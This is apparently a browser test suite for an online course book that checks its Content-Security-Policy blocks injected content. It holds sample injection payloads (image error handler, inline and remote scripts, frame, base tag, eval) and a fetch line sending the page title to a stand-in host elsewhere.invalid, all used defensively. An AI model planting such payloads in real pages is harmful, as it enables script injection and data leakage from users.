"""A page runs the book's own scripts and no other, from wherever they come; the lab likewise."""

import pytest

from course import HTML, notebooks
from tests.helpers.waiting import until

PAGES = [*notebooks.toc_pages(), "search", "genindex", "404", "index"]
FROM_A_FOLDER = ["book/paper/06-elementwise", "book/paper/15-training", "book/explorers"]
LISTEN = """window.refused = [];
addEventListener("securitypolicyviolation", one =>
    refused.push(`${one.effectiveDirective} ${one.blockedURI} ${one.sourceFile}`));"""
ATTACKS = {
    "a handler of an image":
        "document.body.innerHTML += '<img src=no.png onerror=\"window.ran = 1\">'",
    "a script in the page": """{ const script = document.createElement("script");
        script.textContent = "window.ran = 1"; document.body.append(script); }""",
    "a script from elsewhere": """{ const script = document.createElement("script");
        script.src = "https://elsewhere.invalid/a.js"; document.body.append(script); }""",
    "words to somebody else":
        "fetch('https://elsewhere.invalid/?' + document.title).catch(() => 0)",
    "a frame": "document.body.innerHTML += '<iframe src=\"https://elsewhere.invalid/\"></iframe>'",
    "another base": """{ const base = document.createElement("base");
        base.href = "https://elsewhere.invalid/"; document.head.append(base); }""",
}
PROGRAMS = {  # JupyterLite compiles its schemas: the lab allows a program from text
    "a program from text": "setTimeout(() => Function('window.ran = 1')())",
}


@pytest.fixture(scope="module")
def visitor(browser):
    context = browser.new_context()
    context.add_init_script(LISTEN)
    yield context
    context.close()


def used(tab):
    """Use what moves in a page: its parts wake when they are seen."""
    for part in tab.locator(".interactive:not(.lights)").all():  # the letters have no place
        part.scroll_into_view_if_needed()
    tab.wait_for_load_state("networkidle")


@pytest.mark.parametrize("page", PAGES)
def test_a_page_needs_nothing_that_is_refused(visitor, address, page):
    tab = visitor.new_page()
    tab.goto(f"{address}/{page}.html")
    used(tab)
    assert tab.evaluate("refused") == []
    tab.close()


@pytest.mark.parametrize("page", FROM_A_FOLDER)
def test_the_same_from_a_folder(visitor, page):
    tab = visitor.new_page()
    tab.goto((HTML / f"{page}.html").as_uri())
    used(tab)
    assert tab.evaluate("refused") == []
    assert tab.evaluate("document.fonts.size") > 0
    tab.close()


def test_search_finds(visitor, address):
    tab = visitor.new_page()
    tab.goto(f"{address}/search.html?q=jacobian")
    tab.locator("#search-results li").first.wait_for()
    assert tab.evaluate("refused") == []
    tab.close()


def attacked(visitor, place, attack):
    """What was refused, and whether it ran all the same."""
    tab = visitor.new_page()
    tab.goto(place)
    tab.evaluate("refused.length = 0")
    tab.evaluate(attack)
    until(tab, "refused.length > 0 || window.ran === 1")
    found = tab.evaluate("refused"), tab.evaluate("window.ran === 1")
    tab.close()
    return found


@pytest.mark.parametrize("attack", [*ATTACKS, *PROGRAMS])
def test_what_is_injected_does_not_run(visitor, address, attack):
    program = (ATTACKS | PROGRAMS)[attack]
    refused, ran = attacked(visitor, f"{address}/book/paper/06-elementwise.html", program)
    assert refused and not ran


@pytest.mark.parametrize("attack", ATTACKS)
def test_nor_in_the_lab(visitor, address, attack):
    where = f"{address}/lab/notebooks/index.html?path=steps.ipynb"
    refused, ran = attacked(visitor, where, ATTACKS[attack])
    assert refused and not ran


def test_without_the_policy_it_would_run(visitor, address):
    """The attacks are real: where a page has no policy, they run."""
    tab = visitor.new_page()
    tab.route("**/book/paper/06-elementwise.html", lambda route: route.fulfill(
        body=route.fetch().text().replace("Content-Security-Policy", "X-None"),
        content_type="text/html"))
    tab.goto(f"{address}/book/paper/06-elementwise.html")
    for attack in ("a handler of an image", "a script in the page", "a program from text"):
        tab.evaluate("delete window.ran")
        tab.evaluate((ATTACKS | PROGRAMS)[attack])
        until(tab, "window.ran === 1")
    tab.close()
